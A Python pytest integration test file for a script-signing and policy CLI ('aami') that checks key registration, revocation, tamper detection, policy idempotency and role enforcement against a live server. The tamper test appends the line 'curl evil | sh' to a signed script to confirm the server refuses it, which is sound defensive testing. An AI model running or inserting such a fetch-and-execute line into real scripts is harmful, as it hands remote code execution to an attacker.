"""From a laptop to the server: the real `aami` against a real `aami-server` process.

Runs once per database backend (SQLite, PostgreSQL) on one server per module; each
test uses names of its own. Nothing is faked: keys are generated, scripts signed and
policies applied through the console script, and the results read back over HTTP.
"""

from __future__ import annotations

import base64
import hashlib
import json
import uuid
from pathlib import Path

import pytest

from tests.cli.conftest import SCHEMA_YAML, SCRIPT, aami
from tests.cli.test_docs import blocks, run_block, write_files
from tests.harness import ServerProcess


def _env(server: ServerProcess, role: str = "admin") -> dict[str, str]:
    return {"AAMI_SERVER": server.url, "AAMI_TOKEN": server.token(role)}


def _unique(prefix: str) -> str:
    return f"{prefix}-{uuid.uuid4().hex[:8]}"


def _publisher(tmp_path: Path, name: str) -> Path:
    assert aami("keys", "generate", "--out", str(tmp_path / "keys"), "--name", name).code == 0
    return tmp_path / "keys"


def _sign(tmp_path: Path, key: Path, name: str, version: str, content: bytes = SCRIPT) -> Path:
    script = tmp_path / f"{name}-{version}.sh"
    script.write_bytes(content)
    schema = tmp_path / "schema.yaml"
    schema.write_text(SCHEMA_YAML)
    args = ["--name", name, "--version", version, "--params-schema", str(schema)]
    result = aami(
        "script", "sign", str(script), "--key", str(key), *args, "--run-as", "aami-runner"
    )
    assert result.code == 0, result.err
    return Path(f"{script}.signed.json")


def test_laptop_to_server_and_tampered_copies_refused(
    shared_server: ServerProcess, tmp_path: Path
) -> None:
    env, key_name, script = _env(shared_server), _unique("pub"), _unique("disk")
    keys = _publisher(tmp_path, key_name)
    signed = _sign(tmp_path, keys / f"{key_name}.key", script, "1.0.0")

    # Not registered yet: the server refuses the signer.
    result = aami("script", "publish", str(signed), env=env)
    assert result.code == 1 and "(UNKNOWN_KEY)" in result.err

    result = aami("key", "register", str(keys / f"{key_name}.pub"), "--name", key_name, env=env)
    assert result.code == 0, result.err
    result = aami("key", "register", str(keys / f"{key_name}.pub"), "--name", key_name, env=env)
    assert result.code == 1 and "(CONFLICT)" in result.err

    published = hashlib.sha256(SCRIPT).hexdigest()
    first = aami("script", "publish", str(signed), env=env)
    assert first.code == 0 and first.out.startswith(f"published: {script} 1.0.0"), first.err
    again = aami("script", "publish", str(signed), env=env)
    assert again.code == 0 and again.out.startswith("unchanged"), again.err

    document = json.loads(signed.read_text())
    document["content"] = base64.b64encode(SCRIPT + b"curl evil | sh\n").decode()
    tampered = tmp_path / "tampered.json"
    tampered.write_text(json.dumps(document))
    result = aami("script", "publish", str(tampered), env=env)
    assert result.code == 1 and "(HASH_MISMATCH)" in result.err

    payload = json.loads(base64.b64decode(document["envelope"]["payload"]))
    payload["version"] = "9.9.9"
    document["envelope"]["payload"] = base64.b64encode(json.dumps(payload).encode()).decode()
    tampered.write_text(json.dumps(document))
    result = aami("script", "publish", str(tampered), env=env)
    assert result.code == 1 and "(SIGNATURE_INVALID)" in result.err

    same_version = _sign(tmp_path, keys / f"{key_name}.key", script, "1.0.0", SCRIPT + b"# new\n")
    result = aami("script", "publish", str(same_version), env=env)
    assert result.code == 1 and "(VERSION_NOT_HIGHER)" in result.err

    versions = shared_server.api("GET", f"/api/v1/scripts/{script}/versions").json["data"]
    assert [v["version"] for v in versions] == ["1.0.0"]
    assert versions[0]["sha256"] == published


def test_revoked_key_cannot_publish(shared_server: ServerProcess, tmp_path: Path) -> None:
    env, key_name, script = _env(shared_server), _unique("gone"), _unique("inv")
    keys = _publisher(tmp_path, key_name)
    assert (
        aami("key", "register", str(keys / f"{key_name}.pub"), "--name", key_name, env=env).code
        == 0
    )
    assert (
        aami(
            "script",
            "publish",
            str(_sign(tmp_path, keys / f"{key_name}.key", script, "1.0.0")),
            env=env,
        ).code
        == 0
    )
    result = aami("key", "revoke", key_name, env=env)
    assert result.code == 0 and result.out.startswith(f"revoked {key_name}")
    assert aami("key", "revoke", key_name, env=env).out.startswith("already revoked")
    newer = _sign(tmp_path, keys / f"{key_name}.key", script, "1.1.0")
    result = aami("script", "publish", str(newer), env=env)
    assert result.code == 1 and "(REVOKED_KEY)" in result.err
    result = aami("key", "revoke", _unique("nobody"), env=env)
    assert result.code == 1 and "no publisher key named" in result.err


def _policy_file(path: Path, name: str, script: str, threshold: int) -> Path:
    path.write_text(
        "policies:\n"
        f"  - name: {name}\n"
        f"    script: {script}\n"
        "    scope: global\n"
        f"    params: {{threshold_percent: {threshold}, mounts: ['/']}}\n"
        "    schedule: {mode: interval, interval: 2m}\n"
        "    timeout: 30s\n"
        "    run_as: aami-runner\n"
    )
    return path


def test_policy_apply_is_idempotent(shared_server: ServerProcess, tmp_path: Path) -> None:
    env, key_name, script, policy = _env(shared_server), _unique("k"), _unique("s"), _unique("p")
    keys = _publisher(tmp_path, key_name)
    assert (
        aami("key", "register", str(keys / f"{key_name}.pub"), "--name", key_name, env=env).code
        == 0
    )
    assert (
        aami(
            "script",
            "publish",
            str(_sign(tmp_path, keys / f"{key_name}.key", script, "1.0.0")),
            env=env,
        ).code
        == 0
    )
    file = _policy_file(tmp_path / "p.yaml", policy, script, 90)

    def stored() -> list[dict]:
        return shared_server.api("GET", f"/api/v1/policies?name={policy}").json["data"]

    dry = aami("policy", "apply", str(file), "--dry-run", env=env)
    assert dry.code == 0 and f"would create {policy}" in dry.out
    assert stored() == []

    created = aami("policy", "apply", str(file), env=env)
    assert created.code == 0 and f"created {policy}" in created.out
    (row,) = stored()
    assert row["params"] == {"threshold_percent": 90, "mounts": ["/"]}
    assert row["schedule"] == {"mode": "interval", "interval_seconds": 120}
    assert (row["timeout_seconds"], row["run_as"], row["enabled"]) == (30, "aami-runner", True)

    again = aami("policy", "apply", str(file), env=env)
    assert again.code == 0 and f"unchanged {policy}" in again.out
    assert stored()[0]["updated_at"] == row["updated_at"]

    _policy_file(file, policy, script, 95)
    dry = aami("policy", "apply", str(file), "--dry-run", env=env)
    assert f"would update {policy} (params)" in dry.out
    assert stored()[0]["params"]["threshold_percent"] == 90
    updated = aami("policy", "apply", str(file), env=env)
    assert updated.code == 0 and f"updated {policy} (params)" in updated.out
    assert stored()[0]["params"]["threshold_percent"] == 95

    _policy_file(file, policy, script, 150)
    refused = aami("policy", "apply", str(file), env=env)
    assert (
        refused.code == 1
        and "threshold_percent: 150 is greater than the maximum 100" in refused.err
    )
    assert stored()[0]["params"]["threshold_percent"] == 95


def test_roles_and_tokens_are_enforced(shared_server: ServerProcess, tmp_path: Path) -> None:
    keys = _publisher(tmp_path, "viewer-try")
    args = [str(keys / "viewer-try.pub"), "--name", _unique("v")]
    result = aami("key", "register", *args, env=_env(shared_server, "viewer"))
    assert result.code == 1 and "(FORBIDDEN)" in result.err
    result = aami(
        "key", "register", *args, env={"AAMI_SERVER": shared_server.url, "AAMI_TOKEN": "wrong"}
    )
    assert result.code == 1
    assert "(UNAUTHORIZED)" in result.err or "(INVALID_TOKEN)" in result.err


def test_documented_server_commands_run(shared_server: ServerProcess, tmp_path: Path) -> None:
    # docs/signing-scripts.md, offline then server blocks, in order, as written.
    write_files(tmp_path)
    for _, body in blocks("run", "offline"):
        run_block(body, tmp_path)
    outputs = [
        run_block(body, tmp_path, _env(shared_server)) for _, body in blocks("run", "server")
    ]
    assert len(outputs) == 3
    versions = shared_server.api("GET", "/api/v1/scripts/disk-usage/versions").json["data"]
    assert [v["version"] for v in versions] == ["1.1.0", "1.0.0"]
    assert shared_server.api("GET", "/api/v1/policies?name=disk-usage").json["data"][0]["enabled"]


@pytest.mark.parametrize("role", ["operator"])
def test_operator_may_publish_and_apply(
    shared_server: ServerProcess, tmp_path: Path, role: str
) -> None:
    admin, operator = _env(shared_server), _env(shared_server, role)
    key_name, script = _unique("op"), _unique("op-s")
    keys = _publisher(tmp_path, key_name)
    assert (
        aami("key", "register", str(keys / f"{key_name}.pub"), "--name", key_name, env=admin).code
        == 0
    )
    signed = _sign(tmp_path, keys / f"{key_name}.key", script, "0.1.0")
    assert aami("script", "publish", str(signed), env=operator).code == 0
    file = _policy_file(tmp_path / "p.yaml", _unique("op-p"), script, 50)
    assert aami("policy", "apply", str(file), env=operator).code == 0
